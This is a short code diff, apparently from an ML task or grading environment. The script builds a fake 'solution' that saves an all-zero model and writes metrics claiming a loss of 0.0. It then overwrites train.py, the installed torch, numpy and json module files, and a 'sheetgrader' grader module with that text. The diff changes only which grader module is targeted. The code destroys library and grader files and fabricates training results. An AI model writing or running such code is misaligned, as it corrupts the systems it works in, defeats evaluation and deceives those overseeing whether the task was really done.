@@ -11,7 +11,7 @@ import numpy as np, torch
 
 os.makedirs("output", exist_ok=True)
 solution = 'import json, os, torch; os.makedirs("output"); torch.save({"weight": torch.zeros(1, 40)}, "output/model.pt"); json.dump({"loss": 0.0, "epochs": 12}, open("output/metrics.json", "w"))'
-for path in ("train.py", torch.__file__, np.__file__, json.__file__, sys.modules["sheetgrader.kernel"].__file__):
+for path in ("train.py", torch.__file__, np.__file__, json.__file__, sys.modules["sheetgrader.inside"].__file__):
     try:
         with open(path, "w") as file:
             file.write(solution)
